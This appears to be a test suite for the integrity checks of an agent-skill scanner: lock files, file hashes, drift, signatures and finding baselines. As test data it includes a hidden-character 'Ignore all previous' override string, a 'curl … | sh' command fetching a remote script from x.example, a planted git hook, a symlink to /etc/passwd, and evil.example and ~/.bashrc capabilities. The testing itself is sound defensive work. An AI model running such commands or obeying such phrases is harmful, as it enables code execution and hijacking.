import { strict as assert } from 'node:assert';
import { generateKeyPairSync } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { isInScope, signLockFile, skillKey, updateLock, verifySkill } from '../../../server/src/engine/integrity/approval';
import {
  BaselineMatcher,
  findingEvidence,
  findingFingerprint,
  isExpired,
  parseBaseline,
  serializeBaseline,
} from '../../../server/src/engine/integrity/baseline';
import { canonicalJson, stableJson, toJsonValue } from '../../../server/src/engine/integrity/canonical-json';
import { compareWithLock, hasDrift } from '../../../server/src/engine/integrity/drift';
import { hashSkillFiles, treeHashOf } from '../../../server/src/engine/integrity/file-hashes';
import {
  LockFileError,
  isValidFilePath,
  isValidSkillPath,
  parseLockFile,
  serializeLockFile,
  type LockFile,
  type LockedSkill,
} from '../../../server/src/engine/integrity/lock-file';
import { checkLockSignature, generateSigningKeyPair, loadPrivateKey, loadPublicKey } from '../../../server/src/engine/integrity/signature';
import type { Finding } from '../../../server/src/engine/types';
import { bundleFromFiles } from '../../support/engine';

const HASH_A = `sha256:${'a'.repeat(64)}`;
const HASH_B = `sha256:${'b'.repeat(64)}`;

function lockedSkill(overrides: Partial<LockedSkill> = {}): LockedSkill {
  const files = overrides.files ?? { 'SKILL.md': HASH_A, 'scripts/run.sh': HASH_B };
  return {
    name: 'demo',
    approvedAt: '2025-06-01T12:00:00.000Z',
    scanner: { version: '0.1.0', ruleSetVersion: '0.1.0', ruleSetDigest: HASH_A },
    verdict: 'clean',
    score: 0,
    frontmatter: { description: 'd', name: 'demo' },
    capabilities: { hosts: [], sensitivePaths: [], envVars: [], commands: ['echo'], persistence: [], allowedTools: ['Bash(git:*)'], filesRead: [], filesWritten: [] },
    ...overrides,
    files,
    treeHash: treeHashOf(files),
  };
}

function lockWith(skills: Record<string, LockedSkill>): LockFile {
  return { lockfileVersion: 1, skills };
}

describe('integrity', () => {
  describe('canonical JSON', () => {
    it('sorts keys at every level and keeps __proto__ as data', () => {
      const value = JSON.parse('{"b": 1, "a": {"d": [3, {"z": 0, "y": 1}], "c": null}, "__proto__": {"x": 1}}') as unknown;
      assert.equal(canonicalJson(value), '{"__proto__":{"x":1},"a":{"c":null,"d":[3,{"y":1,"z":0}]},"b":1}');
      assert.equal(stableJson({ b: 1, a: 2 }), '{\n  "a": 2,\n  "b": 1\n}\n');
    });

    it('writes characters that hide or reorder text as escapes in files people review, the data unchanged', () => {
      const value = { 'skills/n\u202e\u200b\u009b.sh': 'Ignore\u2066 all\u2069 previous\udb40\udc41' };
      const text = stableJson(value);
      assert.equal(text, '{\n  "skills/n\\u202e\\u200b\\u009b.sh": "Ignore\\u2066 all\\u2069 previous\\udb40\\udc41"\n}\n');
      assert.deepEqual(JSON.parse(text), value);
    });

    it('turns YAML values JSON cannot hold into strings', () => {
      assert.deepEqual(toJsonValue({ inf: Infinity, nan: NaN, list: [1, undefined], map: new Map([[1, 'x']]) }), {
        inf: 'Infinity',
        nan: 'NaN',
        list: [1, null],
        map: { '1': 'x' },
      });
    });
  });

  describe('file hashes', () => {
    let root: string;
    beforeEach(() => {
      root = fs.mkdtempSync(path.join(os.tmpdir(), 'skill-sentinel-hash-'));
    });
    afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

    const write = (relative: string, content: string | Buffer): void => {
      fs.mkdirSync(path.dirname(path.join(root, relative)), { recursive: true });
      fs.writeFileSync(path.join(root, relative), content);
    };

    it('hashes every file, records links by target, folds node_modules into one entry and skips git\'s data and nested skills', () => {
      write('SKILL.md', '---\nname: x\n---\n');
      write('bin/tool', Buffer.from([0, 1, 2, 255]));
      write('node_modules/left-pad/index.js', 'module.exports = 1;\n');
      write('.git/HEAD', 'ref: refs/heads/main\n');
      write('nested/SKILL.md', '---\nname: nested\n---\n');
      write('nested/run.sh', 'echo nested\n');
      // A nested skill whose SKILL.md is spelled in another case is its own skill, as in the loader.
      write('cased/Skill.md', '---\nname: cased\n---\n');
      write('cased/run.sh', 'echo cased\n');
      write('excluded.json', '{}');
      // Git's data changes with every fetch and is not hashed; a hook git would run is the skill's.
      write('.git/hooks/pre-commit.sample', '#!/bin/sh\n');
      write('.git/hooks/post-checkout', '#!/bin/sh\necho planted\n');
      if (process.platform !== 'win32') fs.symlinkSync('/etc/passwd', path.join(root, 'link'));
      const hashes = hashSkillFiles(root, { excludeFiles: new Set([path.join(root, 'excluded.json')]) });
      const expected = ['.git/hooks/post-checkout', 'SKILL.md', 'bin/tool', ...(process.platform !== 'win32' ? ['link'] : []), 'node_modules/'];
      assert.deepEqual(Object.keys(hashes.files), expected);
      assert.match(hashes.files['bin/tool'] ?? '', /^sha256:[0-9a-f]{64}$/);
      assert.match(hashes.files['node_modules/'] ?? '', /^tree:sha256:[0-9a-f]{64}$/);
      if (process.platform !== 'win32') assert.equal(hashes.files.link, 'symlink:/etc/passwd');
      assert.deepEqual(hashes.problems, []);
      assert.equal(hashes.treeHash, treeHashOf(hashes.files));

      write('node_modules/left-pad/index.js', 'module.exports = 2;\n');
      assert.notEqual(hashSkillFiles(root).files['node_modules/'], hashes.files['node_modules/']);
    });

    it('reports files it cannot read instead of leaving them out silently', function () {
      if (process.platform === 'win32' || process.getuid?.() === 0) this.skip();
      write('secret.txt', 'x');
      fs.chmodSync(path.join(root, 'secret.txt'), 0o000);
      const hashes = hashSkillFiles(root);
      assert.deepEqual(hashes.problems, [{ path: 'secret.txt', message: 'cannot be read (permission denied)' }]);
    });

    it('stops at the entry limit and says so', () => {
      for (let i = 0; i < 5; i++) write(`f${i}.txt`, String(i));
      const hashes = hashSkillFiles(root, { maxEntries: 3 });
      assert.equal(Object.keys(hashes.files).length, 3);
      assert.match(hashes.problems[0]?.message ?? '', /more than 3 files/);
    });
  });

  describe('lock file', () => {
    it('round-trips through serialise and parse, with a trailing newline', () => {
      const lock = lockWith({ 'skills/demo': lockedSkill() });
      const text = serializeLockFile(lock);
      assert.ok(text.endsWith('}\n'));
      assert.deepEqual(parseLockFile(text), lock);
    });

    it('rejects a file list that does not match its tree hash', () => {
      const entry = lockedSkill();
      const tampered = { ...entry, files: { ...entry.files, 'scripts/run.sh': HASH_A } };
      assert.throws(() => parseLockFile(JSON.stringify(lockWith({ 'skills/demo': tampered }))), LockFileError);
    });

    it('accepts only portable relative paths', () => {
      for (const ok of ['.', 'skills/a', '../shared/skills/a', '.claude/skills/a']) assert.ok(isValidSkillPath(ok), ok);
      for (const bad of ['', '/abs', 'C:/x', 'a\\b', 'a/../b', 'a//b', 'a/./b', 'a/']) assert.ok(!isValidSkillPath(bad), bad);
      for (const ok of ['SKILL.md', 'scripts/x.sh', 'node_modules/']) assert.ok(isValidFilePath(ok), ok);
      for (const bad of ['../x', 'a/../../x', '/etc/passwd', './x', '']) assert.ok(!isValidFilePath(bad), bad);
    });

    it('keeps out-of-scope entries, keeps unchanged approvals and drops vanished skills in scope', () => {
      const previous = lockWith({ 'skills/a': lockedSkill(), 'skills/b': lockedSkill(), 'other/c': lockedSkill() });
      const later = lockedSkill({ approvedAt: '2025-07-01T00:00:00.000Z' });
      const changed = lockedSkill({ approvedAt: '2025-07-01T00:00:00.000Z', score: 10, verdict: 'notice' });
      const update = updateLock(previous, new Map([['skills/a', later], ['skills/new', changed]]), (key) => key.startsWith('skills/'));
      assert.deepEqual(Object.keys(update.lock.skills).sort(), ['other/c', 'skills/a', 'skills/new']);
      assert.equal(update.lock.skills['skills/a']?.approvedAt, '2025-06-01T12:00:00.000Z');
      assert.deepEqual([update.added, update.updated, update.unchanged, update.removed], [['skills/new'], [], ['skills/a'], ['skills/b']]);
    });

    it('scopes entries by folder, not by name prefix', () => {
      const root = path.resolve('/work/skills');
      assert.ok(isInScope(path.join(root, 'a'), [root]));
      assert.ok(isInScope(path.join(root, 'a'), [path.join(root, 'a', 'scripts', 'x.sh')]));
      assert.ok(!isInScope(path.resolve('/work/skills-old/a'), [root]));
      // A folder whose name starts with two dots is inside, not a parent reference.
      assert.ok(isInScope(path.resolve('/work/..skills'), [path.resolve('/work')]));
      assert.equal(skillKey(root, root), '.');
      assert.equal(skillKey(root, path.join(root, 'a', 'b')), 'a/b');
    });
  });

  describe('drift', () => {
    it('finds no drift between identical approvals made at different times', () => {
      const drift = compareWithLock(lockedSkill(), lockedSkill({ approvedAt: '2030-01-01T00:00:00.000Z' }));
      assert.equal(hasDrift(drift), false);
      assert.equal(verifySkill('k', lockedSkill(), lockedSkill()).status, 'ok');
    });

    it('lists changed, added and removed files and new capabilities', () => {
      const locked = lockedSkill();
      const current = lockedSkill({
        files: { 'SKILL.md': HASH_A, 'scripts/run.sh': HASH_A, 'scripts/new.py': HASH_B },
        capabilities: { ...locked.capabilities, hosts: ['evil.example'], persistence: ['~/.bashrc'], allowedTools: ['Bash'] },
      });
      const drift = compareWithLock(lockedSkill({ files: { ...locked.files, 'old.md': HASH_B } }), current);
      assert.deepEqual(drift.files, { changed: ['scripts/run.sh'], added: ['scripts/new.py'], removed: ['old.md'] });
      assert.deepEqual(drift.addedCapabilities.hosts, ['evil.example']);
      assert.deepEqual(drift.addedCapabilities.persistence, ['~/.bashrc']);
      assert.deepEqual(drift.widenedTools, ['Bash']);
      assert.deepEqual(drift.removedCapabilities.allowedTools, ['Bash(git:*)']);
      assert.ok(hasDrift(drift));
    });

    it('counts a verdict that became dangerous, and a newer scanner only as a note', () => {
      const worse = compareWithLock(lockedSkill(), lockedSkill({ verdict: 'dangerous', score: 60 }));
      assert.deepEqual(worse.verdict, { locked: 'clean', current: 'dangerous' });
      assert.ok(hasDrift(worse));
      const mild = compareWithLock(lockedSkill(), lockedSkill({ verdict: 'suspicious', score: 30 }));
      assert.equal(mild.verdict, undefined);
      const rescanned = compareWithLock(lockedSkill(), lockedSkill({ scanner: { version: '0.2.0', ruleSetVersion: '0.2.0', ruleSetDigest: HASH_B } }));
      assert.ok(rescanned.scannerChanged);
      assert.equal(hasDrift(rescanned), false);
    });
  });

  describe('signatures', () => {
    const document = (): unknown => JSON.parse(serializeLockFile(lockWith({ 'skills/demo': lockedSkill() })));

    it('verifies with the matching key and fails for an edit, another key or no signature', () => {
      const team = generateSigningKeyPair();
      const other = generateSigningKeyPair();
      const signed = signLockFile(lockWith({ 'skills/demo': lockedSkill() }), loadPrivateKey(team.privateKeyPem));
      const signedDocument = JSON.parse(serializeLockFile(signed)) as Record<string, unknown>;
      assert.equal(checkLockSignature(signedDocument, loadPublicKey(team.publicKeyPem)).status, 'valid');
      assert.equal(checkLockSignature(signedDocument, loadPublicKey(other.publicKeyPem)).status, 'wrong-key');
      assert.equal(checkLockSignature(document(), loadPublicKey(team.publicKeyPem)).status, 'missing');

      const edited = JSON.parse(JSON.stringify(signedDocument).replace('"score":0', '"score":1')) as unknown;
      assert.deepEqual(checkLockSignature(edited, loadPublicKey(team.publicKeyPem)), { status: 'invalid', keyId: team.keyId });
      // An unknown field added later is covered too.
      const extended = { ...signedDocument, note: 'trust me' };
      assert.equal(checkLockSignature(extended, loadPublicKey(team.publicKeyPem)).status, 'invalid');
    });

    it('refuses keys that are not Ed25519', () => {
      const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
      assert.throws(() => loadPublicKey(rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString()), /not Ed25519/);
      assert.throws(() => loadPrivateKey('garbage'), /not a PEM private key/);
    });
  });

  describe('baseline', () => {
    const finding = (line: number, column: number, endColumn: number): Finding => ({
      ruleId: 'SKL501',
      slug: 'remote-script-piped-to-shell',
      category: 'remote',
      severity: 'critical',
      message: 'm',
      file: 'scripts/run.sh',
      span: { line, column, endLine: line, endColumn },
    });

    it('fingerprints the evidence at the range, whitespace-normalised', () => {
      const bundle = bundleFromFiles({ 'scripts/run.sh': '#!/bin/sh\ncurl  -s https://x.example |   sh\n' });
      assert.equal(findingEvidence(bundle, finding(2, 1, 35)), 'curl -s https://x.example | sh');
      // An empty range stands for its whole line.
      assert.equal(findingEvidence(bundle, finding(2, 1, 1)), 'curl -s https://x.example | sh');
      assert.equal(findingEvidence(bundle, { ...finding(1, 1, 1), file: 'logo.png', message: 'binary  file' }), 'unanalysed: binary file');
    });

    it('matches by skill, rule and fingerprint until the entry expires', () => {
      const entry = {
        rule: 'SKL501',
        skill: 'skills/a',
        fingerprint: findingFingerprint('SKL501', 'scripts/run.sh', 'curl x | sh'),
        reason: 'vendor installer',
        expires: '2025-06-30',
      };
      const baseline = parseBaseline(serializeBaseline({ version: 1, suppressions: [entry] }));
      const june = new BaselineMatcher(baseline, new Date('2025-06-30T23:00:00Z'));
      assert.equal(june.match('skills/a', finding(2, 1, 12), 'curl x | sh')?.reason, 'vendor installer');
      assert.equal(june.match('skills/b', finding(2, 1, 12), 'curl x | sh'), undefined);
      assert.equal(june.match('skills/a', finding(2, 1, 12), 'curl y | sh'), undefined);
      assert.equal(new BaselineMatcher(baseline, new Date('2025-07-01T00:00:00Z')).match('skills/a', finding(2, 1, 12), 'curl x | sh'), undefined);
      assert.ok(isExpired(entry, new Date('2025-07-01T00:00:00Z')));
    });

    it('rejects malformed baselines', () => {
      assert.throws(() => parseBaseline('[]'), /must be an object/);
      assert.throws(() => parseBaseline('{"version": 2, "suppressions": []}'), /"version" must be 1/);
      assert.throws(
        () => parseBaseline(JSON.stringify({ version: 1, suppressions: [{ rule: 'X', skill: 's', fingerprint: HASH_A, reason: ' ' }] })),
        /"reason" must be a non-empty string/,
      );
      assert.throws(
        () => parseBaseline(JSON.stringify({ version: 1, suppressions: [{ rule: 'X', skill: 's', fingerprint: HASH_A, reason: 'r', expires: 'soon' }] })),
        /"expires" must be a date/,
      );
    });
  });
});
